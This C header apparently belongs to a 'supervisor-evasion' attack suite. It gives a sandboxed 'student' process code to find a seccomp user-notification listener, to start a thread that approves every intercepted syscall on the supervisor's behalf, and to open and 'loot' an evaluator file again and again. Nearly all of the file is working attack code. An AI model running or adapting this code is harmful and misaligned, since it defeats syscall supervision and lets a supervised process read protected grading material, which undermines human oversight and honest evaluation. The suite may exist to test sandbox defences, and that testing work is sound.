/* SPDX-License-Identifier: MIT */
/*
 * listener.h - a student who has a supervisor's listener, and answers for the supervisor.
 *
 * Whoever holds the descriptor may receive the notifications of all who are under the filter, and
 * send the answers: the kernel does not ask whether it is the one who was meant. How to come by the
 * descriptor is the means, and stands in each attack.
 */
#ifndef ATTACKS_SUPERVISOR_EVASION_LISTENER_H
#define ATTACKS_SUPERVISOR_EVASION_LISTENER_H

#include "attacks/supervisor-evasion/evaluator.h"

#include <fcntl.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/ioctl.h>

#define TRIES     100  /* supervisor and student take turns at the same queue */
#define HIGHEST   1024 /* descriptor that is looked at */

/* Is our descriptor a listener? Asks by name: opens nothing, reads nothing. */
static inline bool is_listener(int fd)
{
	static const char kind[] = "anon_inode:seccomp notify";
	char door[32], link[sizeof(kind)];
	ssize_t n;

	snprintf(door, sizeof(door), "/proc/self/fd/%d", fd);
	n = readlink(door, link, sizeof(link));
	return n == sizeof(kind) - 1 && !memcmp(link, kind, sizeof(kind) - 1);
}

static inline void *say_yes(void *from)
{
	int listener;

	if (read(*(int *)from, &listener, sizeof(listener)) != sizeof(listener))
		return NULL;
	for (;;) {
		struct seccomp_notif ask = { 0 };
		struct seccomp_notif_resp yes = { .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE };

		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &ask))
			return NULL;
		yes.id = ask.id;
		ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &yes);
	}
}

/*
 * Start the thread that says yes to whatever is asked. It waits for the number of its listener, an
 * int, behind the descriptor returned. -1 with errno: there can be no thread.
 */
static inline int start_answering(void)
{
	static int pipes[2];
	pthread_t thread;

	if (pipe2(pipes, O_CLOEXEC))
		return -1;
	errno = pthread_create(&thread, NULL, say_yes, &pipes[0]);
	return errno ? -1 : pipes[1];
}

/* Try the evaluator until the answer has come from us. */
static inline bool loot_with_answers(void)
{
	bool read_it = false;

	for (int i = 0; !read_it && i < TRIES; i++)
		read_it = loot_evaluator(open(EVALUATOR, O_RDONLY | O_CLOEXEC));
	return read_it;
}

#endif
